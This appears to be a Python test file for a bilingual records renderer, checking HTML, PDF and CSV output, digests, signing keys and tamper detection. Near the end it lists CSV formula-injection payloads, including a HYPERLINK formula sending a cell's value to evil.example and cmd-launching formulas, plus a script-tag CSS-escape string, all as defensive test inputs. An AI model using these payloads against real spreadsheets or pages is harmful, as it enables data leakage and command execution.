"""Renderings of a stored record: HTML, PDF (text read back with pdftotext) and CSV, in both languages."""

from __future__ import annotations

import csv
import io
import shutil
import subprocess
from collections.abc import Iterator
from dataclasses import replace
from datetime import UTC, datetime
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import pytest
from sqlalchemy import text

from collector.policy import default_policies
from collector.records import fonts, printer, render
from collector.records.service import Records, StoredRecord
from collector.store import tickets as ticket_store
from collector.store.db import make_engine, writing
from collector.store.migrate import upgrade
from tests.collector.records_data import DAY, SITE, ZONE, _ticket, fill_site, local, result, store_results
from tests.conftest import missing

NOW = datetime(2026, 11, 23, 8, 0, tzinfo=ZONE)


@pytest.fixture(scope="module")
def issued(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[Records, dict[str, StoredRecord]]]:
    path = tmp_path_factory.mktemp("records-render") / "w.db"
    engine = make_engine(f"sqlite:///{path}")
    upgrade(engine)
    fill_site(engine)
    records = Records(engine, default_policies(), clock=lambda: NOW.astimezone(UTC))
    by_lang = {}
    for lang in ("zh_CN", "en"):
        rec = records.issue(site=SITE, kind="daily", period=DAY, language=lang, actor="li")
        records.sign(rec.id, signer="李工" if lang == "zh_CN" else "Li Wei", role="engineer", actor="li")
        by_lang[lang] = records.get(rec.id)
    yield records, by_lang
    engine.dispose()


def _need_pdf_tools() -> None:
    if shutil.which("pdftotext") is None:
        missing("pdftotext", "install Debian poppler-utils")
    try:
        fonts.family_chain(printer._css_families("html"))
    except fonts.FontsUnavailable as exc:
        missing("fonts for PDF records", f"pip install fonttools; apt-get install fontconfig "
                                         f"fonts-wqy-zenhei fonts-dejavu-core ({exc})")


def _pdf_text(data: bytes, tmp_path: Path, mode: str = "-layout") -> str:
    (tmp_path / "r.pdf").write_bytes(data)
    out = subprocess.run(["pdftotext", mode, "-enc", "UTF-8", str(tmp_path / "r.pdf"), "-"],
                         capture_output=True, check=True, timeout=60)
    return out.stdout.decode("utf-8")


class _BodyText(HTMLParser):
    """The text a reader sees of an HTML page: the body's, without style and script."""

    def __init__(self) -> None:
        super().__init__()
        self.parts: list[str] = []
        self.hidden = 0
        self.body = False

    def handle_starttag(self, tag: str, attrs: Any) -> None:
        self.body = self.body or tag == "body"
        self.hidden += tag in ("style", "script", "title")

    def handle_endtag(self, tag: str) -> None:
        self.hidden -= tag in ("style", "script", "title")

    def handle_data(self, data: str) -> None:
        if self.body and not self.hidden:
            self.parts.append(data)


def _html_text(page: str) -> str:
    reader = _BodyText()
    reader.feed(page)
    return _squash("".join(reader.parts))


def _printed_text(raw: str, footer: str, expected: str) -> str:
    """The text of a PDF (``pdftotext -raw``) without what each page adds to the page's text: the foot
    (``footer`` and ``N / M``, which must end every page) and a table header repeated at the top of a
    page (text at a page's top that does not continue ``expected`` there)."""
    pages = [p for p in raw.split("\f") if p.strip()]
    done = ""
    for number, page in enumerate(pages, 1):
        flat = _squash(page)
        foot = _squash(footer) + f"{number}/{len(pages)}"
        assert flat.endswith(foot), (number, flat[-160:])
        flat = flat[:-len(foot)]
        cut = 0
        while number > 1 and cut < len(flat) and not expected.startswith(flat[cut:], len(done)):
            cut += 1
        done += flat[cut:]
    return done


@pytest.fixture(scope="module")
def pdf_texts(issued: tuple[Records, dict[str, StoredRecord]], tmp_path_factory: pytest.TempPathFactory
              ) -> dict[str, str]:
    _need_pdf_tools()
    _, recs = issued
    tmp = tmp_path_factory.mktemp("pdf")
    out = {}
    for lang, rec in recs.items():
        data = render.pdf(rec)
        assert data.startswith(b"%PDF-")
        out[lang] = _pdf_text(data, tmp)
    return out


def _installed_families() -> set[str]:
    out = subprocess.run(["fc-list", ":", "family"], capture_output=True, text=True, timeout=30).stdout
    return {name.strip() for line in out.splitlines() for name in line.split(",")}


def test_pdf_embeds_the_fonts_the_record_css_names_when_printed(issued: Any, tmp_path: Path) -> None:
    """The fonts record.css names are the ones embedded: the CJK sans and the monospace digest font."""
    _need_pdf_tools()
    if shutil.which("pdffonts") is None or shutil.which("fc-list") is None:
        missing("pdffonts and fc-list", "install Debian poppler-utils and fontconfig")
    css = (Path(render.__file__).parent / "templates" / "record.css").read_text(encoding="utf-8")
    body_families = css.split("html { font-family:", 1)[1].split(";", 1)[0]
    installed = _installed_families()
    wanted = next((f.strip(' "') for f in body_families.split(",") if f.strip(' "') in installed), None)
    if wanted is None or "DejaVu Sans Mono" not in installed:
        missing("fonts", "install fonts-wqy-zenhei (or fonts-noto-cjk) and fonts-dejavu-core")
    _, recs = issued
    for lang, rec in recs.items():
        (tmp_path / f"{lang}.pdf").write_bytes(render.pdf(rec))
        listing = subprocess.run(["pdffonts", str(tmp_path / f"{lang}.pdf")], capture_output=True, text=True,
                                 check=True, timeout=60).stdout
        embedded = [line.split()[0].split("+", 1)[-1] for line in listing.splitlines()[2:] if line.strip()]
        assert any(name.startswith(wanted.replace(" ", "-")) for name in embedded), (lang, embedded)
        assert any(name.startswith("DejaVu-Sans-Mono") for name in embedded), (lang, embedded)
        assert not any("Serif" in name for name in embedded), (lang, embedded)  # the default: rules dropped


def _footer(rec: StoredRecord, lang: str) -> str:
    return (f"{'记录编号' if lang == 'zh_CN' else 'Record no.'} {rec.id} · SHA-256 {rec.digest} · "
            f"{'密钥' if lang == 'zh_CN' else 'key'} {rec.key_id}")


def test_pdf_prints_exactly_the_text_of_the_html_page_with_the_digest_at_every_foot_in_both_languages(
        issued: Any, tmp_path: Path) -> None:
    _need_pdf_tools()
    _, recs = issued
    for lang, rec in recs.items():
        data = render.pdf(rec)
        assert data == render.pdf(rec)  # the same record prints to the same bytes
        expected = _html_text(render.html(rec))
        assert _printed_text(_pdf_text(data, tmp_path, "-raw"), _footer(rec, lang), expected) == expected, lang


def test_pdf_of_a_record_of_many_pages_repeats_table_headers_and_splits_a_cell_taller_than_a_page(
        issued: Any, tmp_path: Path) -> None:
    """420 rows on 60 hosts, a host list of 1,500 names (one table cell longer than a page) and an extra
    section: every word of the page is printed once, in order, each page ends with the record number,
    digest and key id, and a table that continues on a page starts there with its header row."""
    _need_pdf_tools()
    _, recs = issued
    rec = recs["zh_CN"]
    content = dict(rec.content)
    content["header"] = {**rec.content["header"], "hosts": [f"ward-{n:04d}" for n in range(1500)]}
    content["rows"] = [{**row, "host": f"ward-{n:02d}"} for n in range(60) for row in rec.content["rows"]]
    content["sections"] = [{"key": "restore", "title": "恢复演练", "columns": ["服务器", "演练", "耗时（分钟）"],
                            "rows": [["ward-00", "HIS 全量恢复到备用库，核对行数与校验和", 42.5], ["ward-01", None, 7]],
                            "note": "演练按季度进行；" * 40}]
    big = replace(rec, content=content)
    raw = _pdf_text(render.pdf(big), tmp_path, "-raw")
    expected = _html_text(render.html(big))
    assert _printed_text(raw, _footer(big, "zh_CN"), expected) == expected
    pages = [p for p in raw.split("\f") if p.strip()]
    assert len(pages) >= 10
    header = "服务器巡检项标准实测值结论备注"
    continued = [p for p in pages[3:-3] if _squash(p).startswith(header)]
    assert len(continued) == len(pages[3:-3])  # every middle page continues a host table
    assert "ward-1499" in raw and _squash(pages[0]).count("ward-") < 1500  # the host list ran on


def test_pdf_text_is_the_text_weasyprint_printed_from_the_same_html(issued: Any, tmp_path: Path) -> None:
    """The old rendering path (WeasyPrint, a dev dependency now) and the printer give the same text."""
    _need_pdf_tools()
    try:
        import weasyprint  # type: ignore[import-untyped]
    except (ImportError, OSError) as exc:
        missing("WeasyPrint", f"pip install weasyprint; apt-get install libpango-1.0-0 libpangoft2-1.0-0 ({exc})")
    _, recs = issued
    rec = recs["zh_CN"]
    page = render.html(rec)
    old = _pdf_text(bytes(weasyprint.HTML(string=page).write_pdf()), tmp_path, "-raw")
    new = _pdf_text(render.pdf(rec), tmp_path, "-raw")
    expected = _html_text(page)
    assert _printed_text(old, _footer(rec, "zh_CN"), expected) == _printed_text(
        new, _footer(rec, "zh_CN"), expected) == expected


def test_html_style_sheet_is_not_html_escaped_when_rendered(issued: Any) -> None:
    _, recs = issued
    page = render.html(recs["en"])
    style = page.split("<style>", 1)[1].split("</style>", 1)[0]
    assert "&#34;" not in style and "&quot;" not in style and "&amp;" not in style
    assert 'font-family: "Noto Sans CJK SC"' in style
    rec = recs["en"]
    assert f'SHA-256 {rec.digest} · key {rec.key_id}"' in style  # the page footer's text: a CSS string
    hostile = str(render._css_string('x" } body { display: none } </style><script>alert(1)</script>\\'))
    assert hostile.count('"') == 2 and "<" not in hostile and hostile.startswith('"x\\22 ')


def _squash(s: str) -> str:
    return "".join(s.split())


def test_chinese_pdf_holds_the_record_words_values_and_digest_when_read_back(
        issued: Any, pdf_texts: dict[str, str]) -> None:
    _, recs = issued
    txt = pdf_texts["zh_CN"]
    flat = _squash(txt)
    for words in ("日常巡检记录", "巡检项目", "正常", "警告", "异常", "无数据", "磁盘空间", "数据库备份",
                  "周期内无数据", "异常汇总及建议", "周期内故障单", "备份核查", "签字确认", "超时", "达标",
                  "工程师（签字／日期）", "客户（签字／日期）", "李工"):
        assert words in flat, words
    assert "his-db-01" in txt and "pacs-01" in txt and "41.2 %" in txt and "1.5 GiB" in txt
    assert "2026-11-22" in txt
    assert recs["zh_CN"].digest in flat  # printed whole (header or foot of the page)


def test_english_pdf_holds_the_record_in_english_when_the_language_is_en(
        issued: Any, pdf_texts: dict[str, str]) -> None:
    txt = pdf_texts["en"]
    for words in ("Daily patrol record", "Inspection items", "Normal", "Warning", "Abnormal", "No data",
                  "Backup evidence", "breached", "Li Wei", "Disk space /"):
        assert words in txt, words
    assert "正常" not in txt


def test_html_shows_every_part_with_the_digest_and_no_script_when_rendered(issued: Any) -> None:
    _, recs = issued
    page = render.html(recs["zh_CN"])
    assert "<script" not in page
    assert recs["zh_CN"].digest in page and "巡检记录" in page
    for part in ("rows", "gaps", "anomalies", "tickets", "backups", "signatures"):
        assert f'id="{part}"' in page
    assert page.count('class="v-no_data"') >= 3 and "integrity.failed" not in page


def test_csv_starts_with_a_bom_and_holds_every_row_when_opened(issued: Any) -> None:
    _, recs = issued
    data = render.csv_bytes(recs["zh_CN"])
    assert data.startswith(b"\xef\xbb\xbf") and b"\r\n" in data
    lines = list(csv.reader(io.StringIO(data[3:].decode("utf-8"))))
    assert lines[0] == ["日常巡检记录"]
    assert ["SHA-256 摘要", recs["zh_CN"].digest] in lines
    start = lines.index(["巡检项目"])
    header = lines[start + 1]
    assert header[:3] == ["服务器", "检查", "巡检项"]
    body = lines[start + 2: start + 2 + len(recs["zh_CN"].content["rows"])]
    assert len(body) == 7 and all(len(r) == len(header) for r in body)
    disk = next(r for r in body if r[0] == "his-db-01" and r[1] == "disk")
    assert disk[2:8] == ["磁盘空间 /", "used < 80 %", "41.2", "%", "41.2 %", "正常"]
    assert ["工程师", "李工"] == lines[-1][:2]


def test_renderings_print_the_signing_key_so_a_customer_can_check_the_record_offline(
        issued: Any, pdf_texts: dict[str, str]) -> None:
    _, recs = issued
    rec = recs["zh_CN"]
    assert rec.key is not None and rec.integrity == "verified"
    page = render.html(rec)
    for shown in (rec.key.key_id, rec.key.fingerprint, rec.key.base64, "校验通过", "record verify"):
        assert shown in page, shown
    cells = [c for line in csv.reader(io.StringIO(render.csv_bytes(rec)[3:].decode("utf-8"))) for c in line]
    assert "校验通过" in cells and any(rec.key.fingerprint in c and rec.key.base64 in c for c in cells)
    flat = _squash(pdf_texts["zh_CN"])
    assert _squash(rec.key.fingerprint) in flat and rec.key.key_id in flat


def test_renderings_of_a_record_from_before_keyed_signatures_say_digest_only_when_read(issued: Any) -> None:
    records, recs = issued
    rec = records.issue(site=SITE, kind="daily", period=DAY, language="en", actor="li")
    with records.engine.begin() as conn:  # as stored before keyed signatures: no signature, no audit entry
        conn.execute(text("UPDATE records SET signature = NULL, key_id = NULL WHERE id = :id"), {"id": rec.id})
        conn.execute(text("DELETE FROM audit_log WHERE target = :t"), {"t": f"record:{rec.id}"})
    old = records.get(rec.id)
    assert old.integrity == "digest_only" and not old.verified
    page = render.html(old)
    assert "only its SHA-256 digest is checked" in page and "VERIFICATION FAILED" not in page
    assert b"digest only" in render.csv_bytes(old)


def test_renderings_of_a_tampered_record_say_it_failed_when_the_content_was_changed(issued: Any) -> None:
    records, recs = issued
    rec = recs["en"]
    with records.engine.begin() as conn:
        conn.execute(text("UPDATE records SET content = REPLACE(content, 'Disk space', 'Disk spaces') "
                          "WHERE id = :id"), {"id": rec.id})
    tampered = records.get(rec.id)
    assert not tampered.verified
    assert "VERIFICATION FAILED" in render.html(tampered)
    assert b"VERIFICATION FAILED" in render.csv_bytes(tampered)


# Cells a spreadsheet would run as a formula (OWASP "CSV injection"): each text cell that starts with
# one of these is written with a leading single quote; numbers stay numbers.
FORMULAS = ("=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1")


def test_csv_cells_that_would_run_as_formulas_are_quoted_and_numbers_stay_numbers_when_opened(
        tmp_path: Path) -> None:
    engine = make_engine(f"sqlite:///{tmp_path}/w.db")
    upgrade(engine)
    fill_site(engine)
    evil_note, evil_inspector, evil_ticket, evil_signer, evil_summary, evil_standard = FORMULAS
    store_results(engine, [
        result("his-db-01", "nagios", "temp", 2, local(22, 9), standard=evil_standard, summary=evil_summary,
               metrics=[{"name": "temperature", "value": -5.0, "unit": "", "warn": 30, "crit": 40},
                        {"name": "offset", "value": -0.25, "unit": ""}]),
        result("his-db-01", "clock", "ntp", 0, local(22, 9), standard="offset < 60 s",
               metrics=[{"name": "offset_seconds", "value": -0.25, "unit": "", "warn": 60, "crit": 300}]),
    ])
    with writing(engine) as conn:
        values = _ticket("his-db-01", opened=local(22, 9), response_due=local(22, 11), resolve_due=local(22, 17),
                         summary=evil_ticket)
        ticket_store.insert_ticket(conn, {k: v.astimezone(UTC) if isinstance(v, datetime) else v
                                          for k, v in values.items()})
    records = Records(engine, default_policies(), clock=lambda: NOW.astimezone(UTC))
    rec = records.issue(site=SITE, kind="daily", period=DAY, language="en", inspector=evil_inspector, actor="li")
    records.sign(rec.id, signer=evil_signer, role="customer", note=evil_note, actor="li")
    data = render.csv_bytes(records.get(rec.id))
    engine.dispose()

    cells = [cell for line in csv.reader(io.StringIO(data[3:].decode("utf-8"))) for cell in line]
    dangerous = [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    # what is left starting with a formula character is a plain number
    assert all(c.lstrip("+-").replace(".", "", 1).isdigit() for c in dangerous), dangerous
    for evil in FORMULAS:
        assert "'" + evil in cells, evil  # kept whole, after the quote
    assert "-5" in cells and "-0.25" in cells  # negative values stay numbers
